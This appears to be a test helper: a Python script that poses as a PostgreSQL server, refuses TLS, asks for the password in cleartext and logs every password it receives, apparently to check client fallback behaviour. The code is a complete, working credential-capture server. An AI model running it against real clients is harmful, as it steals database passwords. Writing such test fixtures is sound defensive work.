#!/usr/bin/env python3
"""What a man in the middle runs in place of a PostgreSQL server: it refuses TLS, asks for
the password in clear text and writes down every password it is given.

fake_postgres.py PORT_FILE LOG: listens on every address of this machine, writes its port to
  PORT_FILE, appends each password received to LOG (one a line); ends after 60 idle seconds.
"""
import os
import socket
import struct
import sys

SSL_REQUEST = 80877103
GSS_REQUEST = 80877104


def exactly(conn, n):
    data = b""
    while len(data) < n:
        chunk = conn.recv(n - len(data))
        if not chunk:
            raise ConnectionError("closed")
        data += chunk
    return data


def serve(conn, log):
    conn.settimeout(10)
    while True:
        length = struct.unpack("!I", exactly(conn, 4))[0]
        body = exactly(conn, length - 4)
        code = struct.unpack("!I", body[:4])[0]
        if code in (SSL_REQUEST, GSS_REQUEST):
            conn.sendall(b"N")
            continue
        break
    conn.sendall(b"R" + struct.pack("!II", 8, 3))
    if exactly(conn, 1) != b"p":
        return
    length = struct.unpack("!I", exactly(conn, 4))[0]
    password = exactly(conn, length - 4).rstrip(b"\0")
    with open(log, "ab") as f:
        f.write(password + b"\n")
    fields = b"SFATAL\0C28P01\0Mpassword authentication failed\0\0"
    conn.sendall(b"E" + struct.pack("!I", len(fields) + 4) + fields)


def main():
    port_file, log = sys.argv[1], sys.argv[2]
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("0.0.0.0", 0))
    server.listen(8)
    server.settimeout(60)
    with open(port_file + ".tmp", "w") as f:
        f.write(str(server.getsockname()[1]))
    os.rename(port_file + ".tmp", port_file)
    while True:
        try:
            conn, _ = server.accept()
        except socket.timeout:
            return
        try:
            serve(conn, log)
        except (ConnectionError, socket.timeout, struct.error):
            pass
        finally:
            conn.close()


if __name__ == "__main__":
    main()
